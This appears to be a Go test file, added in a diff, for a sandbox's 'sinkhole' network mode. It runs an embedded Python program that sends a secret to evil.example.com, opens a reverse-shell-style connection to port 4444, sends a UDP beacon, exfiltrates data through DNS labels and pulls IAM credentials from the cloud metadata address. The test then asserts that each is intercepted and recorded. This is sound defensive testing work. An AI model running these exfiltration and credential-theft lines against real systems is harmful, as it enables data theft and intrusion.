@@ -1,0 +1,169 @@
+package moattest
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/moat-sandbox/moat"
+)
+
+// Sinkhole is the shared case of --network sinkhole, for every backend
+// that serves one: every name resolves into 198.18.0.0/15, HTTP is
+// answered, TLS is terminated with the run's CA (which the sandbox's
+// system store trusts) and read in clear, raw TCP and UDP are accepted
+// and recorded, a DNS label is recorded whole, the metadata address
+// answers with the run's fake credentials (a credential-access finding on
+// the sink's evidence), and the sandbox's 127.0.0.1 is its own: a
+// listener on the host's loopback gets nothing. Each is asserted on the
+// Result's network events, never on the program's word alone.
+func Sinkhole(t *testing.T, b moat.Backend) *moat.Result {
+	t.Helper()
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer ln.Close()
+	var accepted atomic.Int32
+	go func() {
+		for {
+			c, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			accepted.Add(1)
+			c.Close()
+		}
+	}()
+	port := ln.Addr().(*net.TCPAddr).Port
+	prog := fmt.Sprintf(`
+import json, socket, ssl, urllib.request
+r = urllib.request.urlopen("http://evil.example.com/steal?x=1", data=b"secret", timeout=20)
+print("http", r.status, r.read())
+
+raw = socket.create_connection(("198.51.100.1", 443), timeout=20)
+# The system store holds the run's CA: the sink's leaf for the SNI verifies.
+t = ssl.create_default_context().wrap_socket(raw, server_hostname="bank.example")
+print("tls verified", t.getpeercert()["subject"])
+t.close()
+
+s = socket.create_connection(("203.0.113.9", 4444), timeout=20)
+s.sendall(b"id\n")
+s.close()
+
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(b"beacon", ("198.51.100.7", 9999))
+
+print("dns", socket.gethostbyname("%s.exfil.example"))
+
+base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
+role = urllib.request.urlopen(base, timeout=20).read().decode()
+creds = json.loads(urllib.request.urlopen(base + role, timeout=20).read())
+print("aws", creds["AccessKeyId"][:4])
+
+# 127.0.0.1 inside is the sandbox's own loopback, not the host's.
+try:
+    socket.create_connection(("127.0.0.1", %d), timeout=5)
+    print("loopback connected")
+except OSError:
+    print("loopback refused")
+`, sinkLabel, port)
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	res, err := b.Run(ctx, &moat.Spec{
+		Args:    []string{"prog.py"},
+		Files:   map[string][]byte{"prog.py": []byte(prog)},
+		Network: moat.NetworkSinkhole,
+		Limits:  moat.Limits{Timeout: 60 * time.Second},
+	})
+	if err != nil {
+		t.Fatalf("run: %v", err)
+	}
+	dump := func() string {
+		var b strings.Builder
+		fmt.Fprintf(&b, "status %s exit %d\nstdout:\n%s\nstderr:\n%s\nnetwork events:\n", res.Status, res.ExitCode, res.Stdout, res.Stderr)
+		for _, ev := range res.Events {
+			if ev.Source == moat.SourceNetwork {
+				fmt.Fprintf(&b, "  %+v\n", ev)
+			}
+		}
+		return b.String()
+	}
+	if res.Status != moat.StatusExited || res.ExitCode != 0 {
+		t.Fatalf("the program failed:\n%s", dump())
+	}
+	for _, w := range []string{"http 200 b''", "tls verified ((('commonName', 'bank.example'),),)", "dns 198.18.", "aws ASIA", "loopback refused"} {
+		if !strings.Contains(res.Stdout, w) {
+			t.Errorf("stdout lacks %q", w)
+		}
+	}
+	for _, c := range []struct {
+		what string
+		kind moat.Kind
+		want []string
+	}{
+		{"dns evil.example.com", "dns", []string{"evil.example.com", "sinkholed A 198.18."}},
+		{"http connect", moat.KindConnect, []string{"evil.example.com", "host=evil.example.com", "/steal?x=1", "secret"}},
+		{"tls sni", moat.KindConnect, []string{"198.51.100.1:443", "sni=bank.example decrypted"}},
+		{"reverse shell", moat.KindConnect, []string{"203.0.113.9:4444", "sinkholed tcp", `id\n`}},
+		{"udp", moat.KindConnect, []string{"198.51.100.7:9999", "sinkholed udp", "beacon"}},
+		{"dns exfil label", "dns", []string{sinkLabel + ".exfil.example"}},
+		{"metadata", moat.KindMetadata, []string{"169.254.169.254:80", "served fake instance credentials"}},
+	} {
+		if !hasNetEvent(res, c.kind, c.want...) {
+			t.Errorf("no network event for %s", c.what)
+		}
+	}
+	if hasNetEvent(res, moat.KindConnect, fmt.Sprintf("127.0.0.1:%d", port)) {
+		t.Errorf("the sandbox's loopback connection was intercepted")
+	}
+	took := false
+	for _, f := range res.Findings {
+		for _, e := range f.Evidence {
+			took = took || (f.Category == moat.CategoryCredentialAccess && e.Source == moat.SourceNetwork)
+		}
+	}
+	if !took {
+		t.Errorf("no credential-access finding on the sink's evidence: %+v", res.Findings)
+	}
+	if n := accepted.Load(); n != 0 {
+		t.Errorf("the host's 127.0.0.1:%d got %d connections from a sinkholed sandbox", port, n)
+	}
+	layer := false
+	for _, l := range res.Layers {
+		layer = layer || strings.Contains(l.Detail, "sinkhole")
+	}
+	if !layer {
+		t.Errorf("no layer says sinkhole: %+v", res.Layers)
+	}
+	if t.Failed() {
+		t.Log(dump())
+	}
+	return res
+}
+
+// sinkLabel is a DNS label of the longest length (63 bytes).
+const sinkLabel = "x123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde"
+
+// hasNetEvent says whether res has a network event of kind whose fields
+// (addr, name, detail, path, data) hold every one of want.
+func hasNetEvent(res *moat.Result, kind moat.Kind, want ...string) bool {
+	for _, ev := range res.Events {
+		if ev.Source != moat.SourceNetwork || ev.Kind != kind {
+			continue
+		}
+		all := strings.Join([]string{ev.Addr, ev.Name, ev.Detail, ev.Path, ev.Data}, "\x00")
+		ok := true
+		for _, w := range want {
+			ok = ok && strings.Contains(all, w)
+		}
+		if ok {
+			return true
+		}
+	}
+	return false
+}
